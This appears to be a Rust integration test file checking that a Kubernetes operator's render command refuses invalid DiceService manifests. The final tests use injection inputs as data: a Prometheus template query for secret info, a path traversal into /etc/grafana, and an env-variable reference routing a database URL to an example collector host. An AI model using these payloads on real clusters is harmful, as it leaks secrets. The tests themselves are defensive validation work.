//! `dice-operator render` refuses what the API server would refuse, naming the field, printing
//! nothing and exiting non-zero — so a GitOps check never approves a manifest a cluster rejects.

use std::io::Write;
use std::process::{Command, Output, Stdio};

fn render(manifest: &str) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_dice-operator"))
        .args(["render", "-f", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(manifest.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

fn dice(name: &str, spec: &str) -> String {
    format!(
        "apiVersion: dice.dev/v1alpha1\nkind: DiceService\nmetadata:\n  name: '{name}'\n  namespace: team-a\nspec:\n{spec}"
    )
}

fn assert_refused(manifest: &str, expected: &[&str]) {
    let output = render(manifest);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "render accepted:\n{manifest}");
    assert!(
        output.stdout.is_empty(),
        "render printed objects for a refused manifest"
    );
    for wanted in expected {
        assert!(stderr.contains(wanted), "{wanted:?} missing from: {stderr}");
    }
}

#[test]
fn unknown_fields_and_out_of_range_values_are_refused_by_name() {
    assert_refused(
        &dice("dice", "  replicaz: 3\n  replicas: 70000\n"),
        &[
            "spec.replicaz: unknown field",
            "spec.replicas: Invalid value: 70000: should be less than or equal to 100",
        ],
    );
}

#[test]
fn names_the_api_server_refuses_are_refused() {
    assert_refused(
        &dice("x\",job=~\".+", "  replicas: 1\n"),
        &["metadata.name: Invalid value", "RFC 1123 subdomain"],
    );
    assert_refused(
        &dice("dice", "  replicas: 1\n").replace("team-a", "Team_A"),
        &["metadata.namespace: Invalid value"],
    );
}

#[test]
fn dotted_names_and_intervals_below_their_floor_are_refused() {
    assert_refused(
        &dice("api.v2", "  replicas: 1\n"),
        &["metadata.name must be a DNS-1035 label"],
    );
    assert_refused(
        &dice(
            "dice",
            "  monitoring:\n    serviceMonitor:\n      interval: 1ms\n      scrapeTimeout: 1ms\n",
        ),
        &["monitoring.serviceMonitor.interval must be at least 1s"],
    );
    assert_refused(
        &dice(
            "dice",
            "  monitoring:\n    serviceMonitor:\n      interval: 2s\n      scrapeTimeout: 1s\n",
        ),
        &["monitoring.serviceMonitor.interval must be at least 5s (the operator's floor"],
    );
    assert_refused(
        &dice(
            "dice",
            "  alerting:\n    repeatInterval: 1m\n    slack:\n      channel: '#a'\n      apiURL: {name: s, key: k}\n",
        ),
        &["alerting.repeatInterval must be at least 5m"],
    );
}

#[test]
fn maps_and_lists_are_bounded_in_entries_and_key_length() {
    let many: String = (0..65).map(|i| format!("    a{i}: x\n")).collect();
    assert_refused(
        &dice("dice", &format!("  podAnnotations:\n{many}")),
        &["spec.podAnnotations"],
    );
    let long_key = "k".repeat(400);
    assert_refused(
        &dice("dice", &format!("  nodeSelector:\n    {long_key}: x\n")),
        &["keys must be at most 317 characters"],
    );
}

#[test]
fn duplicate_keys_are_refused() {
    assert_refused(
        &dice("dice", "  replicas: 1\n  replicas: 2\n"),
        &["duplicate"],
    );
}

#[test]
fn one_refused_object_stops_the_whole_render() {
    let manifest = format!(
        "{}\n---\n{}",
        dice("good", "  replicas: 1\n"),
        dice("bad", "  replicas: -1\n")
    );
    assert_refused(&manifest, &["DiceService \"bad\"", "spec.replicas"]);
}

#[test]
fn a_valid_manifest_still_renders() {
    let output = render(&dice("dice", "  replicas: 2\n"));
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("kind: Deployment"), "{stdout}");
}

/// Prometheus expands annotations as Go templates (with `query`): a runbook URL carrying
/// `{{ … }}` would run any PromQL and post the result to the author's webhook.
#[test]
fn template_and_path_injection_are_refused() {
    let injected = "  monitoring:\n    rules:\n      runbookBaseUrl: 'https://x.example/{{ query \"kube_secret_info\" }}'\n";
    assert_refused(
        &dice("dice", injected),
        &["spec.monitoring.rules.runbookBaseUrl"],
    );
    let traversal = "  monitoring:\n    dashboard:\n      folder: ../../../../etc/grafana\n";
    assert_refused(
        &dice("dice", traversal),
        &["spec.monitoring.dashboard.folder"],
    );
    let plain = "  monitoring:\n    dashboard:\n      folder: Team A dice\n    rules:\n      runbookBaseUrl: https://runbooks.example.com/dice\n";
    assert!(render(&dice("dice", plain)).status.success());
}

/// Kubernetes expands `$(VAR)` in env values: an author's `$(DICE_HISTORY_DB)` would send the
/// PostgreSQL URL from the Secret to a collector of their choosing. Every user `$` is doubled.
#[test]
fn user_strings_in_env_values_are_not_expanded() {
    let spec = "  telemetry:\n    otlpEndpoint: http://collector.example/$(DICE_HISTORY_DB)\n    serviceName: $(DICE_HISTORY_DB)\n";
    let output = render(&dice("dice", spec));
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8(output.stdout).unwrap();
    let deployment: serde_json::Value = serde_yaml::Deserializer::from_str(&stdout)
        .map(|d| serde::Deserialize::deserialize(d).unwrap())
        .find(|d: &serde_json::Value| d["kind"] == "Deployment")
        .unwrap();
    let env = deployment["spec"]["template"]["spec"]["containers"][0]["env"]
        .as_array()
        .unwrap();
    let value = |name: &str| {
        env.iter()
            .find(|e| e["name"] == name)
            .and_then(|e| e["value"].as_str())
            .unwrap_or_default()
            .to_owned()
    };
    assert_eq!(value("OTEL_SERVICE_NAME"), "$$(DICE_HISTORY_DB)");
    assert_eq!(
        value("OTEL_EXPORTER_OTLP_ENDPOINT"),
        "http://collector.example/$$(DICE_HISTORY_DB)"
    );
    assert!(value("OTEL_RESOURCE_ATTRIBUTES").ends_with("k8s.pod.name=$(POD_NAME)"));
}
